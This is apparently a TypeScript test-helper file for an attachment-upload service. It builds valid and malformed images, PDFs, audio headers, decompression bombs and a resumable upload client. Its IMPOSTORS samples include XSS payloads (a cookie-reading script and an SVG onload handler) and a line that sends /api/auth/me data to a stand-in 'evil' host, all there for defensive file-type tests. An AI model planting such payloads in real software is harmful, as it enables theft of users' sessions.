/**
 * Test files for the attachment tests, built here (no fixtures on disk): small valid PNGs and PDFs of any
 * size, voice-note headers, decompression bombs, and files that lie about what they are. Plus a reference
 * upload client that speaks the protocol of src/domain/attachments.ts the way a device should.
 */
import { createHash, randomBytes } from 'node:crypto';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { contentRange, UploadStatus } from '../../src/domain/attachments';

/** Every file under `dir`, relative: what is on disk, to prove what is stored and what is not. */
export function filesUnder(dir: string): string[] {
  try {
    return readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile())
      .map((e) => join(e.parentPath, e.name).slice(dir.length + 1)).sort();
  } catch {
    return [];
  }
}

export const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');

const u32 = (n: number) => { const b = Buffer.alloc(4); b.writeUInt32BE(n >>> 0); return b; };
const pngChunk = (type: string, data: Buffer) => {
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  return Buffer.concat([u32(data.length), td, u32(crc32(td))]);
};
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/**
 * A valid RGB PNG of width × height with random pixels, stored (not compressed) so its size is about
 * width × height × 3: a way to get a real image of a chosen size. `declared` puts other dimensions in the
 * header (a decompression bomb: tiny file, huge claimed canvas).
 */
export function png(width: number, height: number, opts: { declared?: { width: number; height: number } } = {}): Buffer {
  const rows: Buffer[] = [];
  for (let y = 0; y < height; y++) rows.push(Buffer.concat([Buffer.from([0]), randomBytes(width * 3)]));
  const ihdr = Buffer.concat([u32(opts.declared?.width ?? width), u32(opts.declared?.height ?? height), Buffer.from([8, 2, 0, 0, 0])]);
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', deflateSync(Buffer.concat(rows), { level: 0 })), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A valid one-page PDF carrying `padding` bytes of binary data in a stream (to reach a chosen size). */
export function pdf(padding = 0): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  const length = () => parts.reduce((n, p) => n + p.length, 0);
  const obj = (n: number, body: Buffer | string) => {
    offsets[n] = length();
    parts.push(Buffer.from(`${n} 0 obj\n`), typeof body === 'string' ? Buffer.from(body) : body, Buffer.from('\nendobj\n'));
  };
  const data = randomBytes(padding);
  obj(1, '<< /Type /Catalog /Pages 2 0 R >>');
  obj(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  obj(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>');
  obj(4, Buffer.concat([Buffer.from(`<< /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream')]));
  const xref = length();
  parts.push(Buffer.from(`xref\n0 5\n0000000000 65535 f \n${[1, 2, 3, 4].map((n) => `${String(offsets[n]).padStart(10, '0')} 00000 n \n`).join('')}`));
  parts.push(Buffer.from(`trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** A baseline JPEG's markers only (SOI, APP0, SOF0 with these dimensions, EOI): enough for the header checks. */
export function jpegHeader(width: number, height: number): Buffer {
  const app0 = Buffer.from([0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), app0, sof, randomBytes(200).map((b) => (b === 0xff ? 0 : b)), Buffer.from([0xff, 0xd9])]);
}

/** A WEBP (VP8X extended header) claiming width × height. */
export function webpHeader(width: number, height: number): Buffer {
  const le24 = (n: number) => Buffer.from([n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff]);
  const vp8x = Buffer.concat([Buffer.from('VP8X'), Buffer.from([10, 0, 0, 0]), Buffer.from([0, 0, 0, 0]), le24(width - 1), le24(height - 1)]);
  const body = Buffer.concat([Buffer.from('WEBP'), vp8x]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(body.length);
  return Buffer.concat([Buffer.from('RIFF'), size, body]);
}

/** An EBML header with this DocType (webm: a voice note from MediaRecorder; matroska: refused), then data. */
export function ebml(docType: 'webm' | 'matroska', bytes = 4096): Buffer {
  const dt = Buffer.from(docType);
  const header = Buffer.concat([
    Buffer.from([0x42, 0x86, 0x81, 0x01, 0x42, 0xf7, 0x81, 0x01, 0x42, 0xf2, 0x81, 0x04, 0x42, 0xf3, 0x81, 0x08]),
    Buffer.from([0x42, 0x82, 0x80 | dt.length]), dt, Buffer.from([0x42, 0x87, 0x81, 0x04, 0x42, 0x85, 0x81, 0x02]),
  ]);
  return Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80 | header.length]), header, randomBytes(bytes)]);
}

export const ogg = (bytes = 4096) => Buffer.concat([Buffer.from('OggS\x00\x02', 'latin1'), randomBytes(bytes)]);

/** Files that are not what an accepted type is, whatever they are called. */
export const IMPOSTORS: Record<string, Buffer> = {
  html: Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>'.padEnd(200, ' ')),
  svg: Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>'.padEnd(200, ' ')),
  javascript: Buffer.from('fetch("/api/auth/me").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t));'.padEnd(200, ' ')),
  windowsExe: Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), randomBytes(500)]),
  elf: Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), randomBytes(500)]),
  zip: Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), randomBytes(500)]),
  matroskaVideo: ebml('matroska', 500),
  pdfAfterJunk: Buffer.concat([Buffer.from('<html>'), pdf(10)]),
};

export interface UploadRun {
  status: UploadStatus;
  /** Body bytes put on the wire, including chunks that were lost or refused on the way. */
  sent: number;
  puts: number;
  statusCalls: number;
}

/**
 * Uploads `bytes` the way a device should: ask where the server stands, send chunks from there, and after
 * any failure (a dropped connection, a 5xx, a 409) ask again and continue from what the server has.
 */
export async function uploadFile(base: string, headers: Record<string, string>, bytes: Buffer, opts: { chunkBytes?: number; contentType?: string; maxAttempts?: number } = {}): Promise<UploadRun> {
  const sha = sha256(bytes);
  const chunkBytes = opts.chunkBytes ?? 256 * 1024;
  const run = { sent: 0, puts: 0, statusCalls: 0 };
  const status = async (): Promise<UploadStatus> => {
    for (;;) {
      run.statusCalls++;
      const res = await fetch(`${base}/api/attachments/${sha}/status`, { headers }).catch(() => null);
      if (res?.ok) return UploadStatus.parse(await res.json());
      if (res && res.status < 500 && res.status !== 429) throw new Error(`status answered ${res.status}: ${await res.text()}`);
    }
  };
  let st = await status();
  for (let attempt = 0; st.state !== 'complete'; attempt++) {
    if (attempt > (opts.maxAttempts ?? 200)) throw new Error('upload did not finish');
    const start = st.received;
    const end = Math.min(start + chunkBytes, bytes.length);
    const chunk = bytes.subarray(start, end);
    run.sent += chunk.length;
    run.puts++;
    const res = await fetch(`${base}/api/attachments/${sha}`, {
      method: 'PUT',
      headers: { ...headers, 'content-type': opts.contentType ?? 'application/octet-stream', 'content-range': contentRange(start, end, bytes.length) },
      body: new Uint8Array(chunk), // a copy typed for both Node's and the DOM's fetch
    }).catch(() => null);
    if (res?.ok) {
      st = UploadStatus.parse(await res.json());
      continue;
    }
    if (res && res.status < 500 && res.status !== 409 && res.status !== 429) throw new Error(`PUT answered ${res.status}: ${await res.text()}`);
    await res?.arrayBuffer().catch(() => undefined);
    st = await status(); // lost, refused for its offset, or the server had a problem: ask, then go on
  }
  return { status: st, ...run };
}
